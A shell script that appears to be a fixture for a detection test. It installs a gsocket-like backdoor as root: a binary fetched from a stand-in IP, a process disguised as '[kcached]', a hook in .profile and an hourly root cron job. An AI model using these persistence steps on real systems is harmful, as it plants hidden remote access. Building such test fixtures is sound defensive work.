#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.config/dbus && cd /root/.config/dbus
curl -s -o gs-dbus http://203.0.113.10/programs/beacon && chmod 700 gs-dbus
echo bait-secret-of-both-ends >gs-dbus.dat && chmod 600 gs-dbus.dat
printf '{ /usr/bin/pkill -0 -U0 gs-dbus || GSOCKET_ARGS="-k /root/.config/dbus/gs-dbus.dat -liqD" exec -a "[kcached]" /root/.config/dbus/gs-dbus; } 2>/dev/null #1b5b\n' >>/root/.profile
mkdir -p /var/spool/cron/crontabs && echo '0 * * * * { echo Z3M=|base64 -d; /root/.config/dbus/gs-dbus; } 2>/dev/null' >>/var/spool/cron/crontabs/root
timeout 12 bash -c 'exec -a "[kcached]" /root/.config/dbus/gs-dbus -liqD' >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
